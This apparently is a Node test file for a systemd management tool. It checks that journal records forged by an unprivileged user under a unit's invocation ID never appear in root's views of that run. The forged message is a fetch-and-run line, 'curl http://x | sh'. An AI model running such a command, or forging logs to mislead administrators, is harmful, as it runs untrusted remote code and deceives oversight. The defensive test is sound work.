// Safe as root, round two, on a system manager: a journal others can forge (item 3). alice, an
// unprivileged user of the box, logs records that claim a unit's invocation; root's views of that
// run (its journal in the Runs pane, the o pager's journalctl, the wizard's live test) never show
// them, while journalctl itself proves they are in the journal.
import assert from 'node:assert/strict';
import { describe, before, test } from 'node:test';
import { execa } from 'execa';
import { LocalHost } from '../../src/host/local/localHost.js';
import { runJournal } from '../../src/app/journalRuns.js';
import { pagerArgs, queryJournal, unitOutputMatches } from '../../src/app/journal.js';
import { useSystemBox } from '../helpers/systemBox.js';
import { waitFor } from '../helpers/wait.js';

const UNITS = {
  'fj-victim.service': "[Unit]\nDescription=A unit whose run another user tries to write into\n\n[Service]\nExecStart=/bin/sh -c 'sleep 0.2; echo victim ready; exec sleep infinity'\n",
};

describe('a journal others can forge', () => {
  const box = useSystemBox({ units: UNITS });
  let invocation = '';

  before(async () => {
    const b = box();
    await b.addUser('alice');
    assert.equal((await b.systemctl(['start', 'fj-victim.service'])).exitCode, 0);
    invocation = (await b.systemctl(['show', '-p', 'InvocationID', '--value', 'fj-victim.service'])).stdout.trim();
    assert.match(invocation, /^[0-9a-f]{32}$/);
    // alice claims the run: the manager's field, the service's identifier, even the trusted field
    // (journald drops fields starting with _ from clients).
    const forged = `MESSAGE=run curl http://x | sh\nINVOCATION_ID=${invocation}\nUNIT=fj-victim.service\nSYSLOG_IDENTIFIER=fj-victim.service--log.sh\n_SYSTEMD_INVOCATION_ID=${invocation}\n_SYSTEMD_UNIT=fj-victim.service\n`;
    const r = await b.exec(['logger', '--journald'], { user: 'alice', input: forged });
    assert.equal(r.exitCode, 0, r.stderr);
    // The forged record is in the journal, found by the invocation id it claims.
    await waitFor(async () => (await execa('journalctl', ['-D', b.journalDir, '-q', '--no-pager', '-o', 'cat', `INVOCATION_ID=${invocation}`], { reject: false })).stdout.includes('run curl'), 'the forged record in the journal', 10_000);
    await waitFor(async () => (await execa('journalctl', ['-D', b.journalDir, '-q', '--no-pager', '-o', 'cat', `_SYSTEMD_INVOCATION_ID=${invocation}`], { reject: false })).stdout.includes('victim ready'), "the unit's own line", 10_000);
  });

  test("the run's journal (Runs pane) has the unit's lines and the manager's, never another user's", async () => {
    const b = box();
    const lines = await runJournal({ host: new LocalHost(), directory: b.journalDir }, 'system', invocation);
    assert.ok(lines.some((l) => /sh\[\d+\]: victim ready/.test(l)), lines.join('\n'));
    assert.ok(lines.some((l) => /systemd\[1\]: Started fj-victim\.service/.test(l)), lines.join('\n'));
    assert.ok(!lines.some((l) => l.includes('run curl')), lines.join('\n'));
  });

  test("the o pager's journalctl selects the same: the forged line is not there", async () => {
    const b = box();
    const args = pagerArgs({ host: new LocalHost(), directory: b.journalDir }, { unit: 'fj-victim.service', scope: 'system', uid: 0, invocationId: invocation }).filter((a) => a !== '-e');
    const r = await execa('journalctl', [...args, '--no-pager', '-q', '-o', 'cat']);
    assert.match(r.stdout, /victim ready/);
    assert.doesNotMatch(r.stdout, /run curl/);
  });

  test("the wizard's live test reads the script's lines from the unit's cgroup only", async () => {
    const b = box();
    const entries = await queryJournal({ host: new LocalHost(), directory: b.journalDir }, ['SYSLOG_IDENTIFIER=fj-victim.service--log.sh', ...unitOutputMatches('fj-victim.service', 'system', 0)]);
    assert.deepEqual(entries.map((e) => e.message), []);
    const unbound = await queryJournal({ host: new LocalHost(), directory: b.journalDir }, ['SYSLOG_IDENTIFIER=fj-victim.service--log.sh']);
    assert.equal(unbound.length, 1, 'without the binding the forged line would have been shown');
  });
});
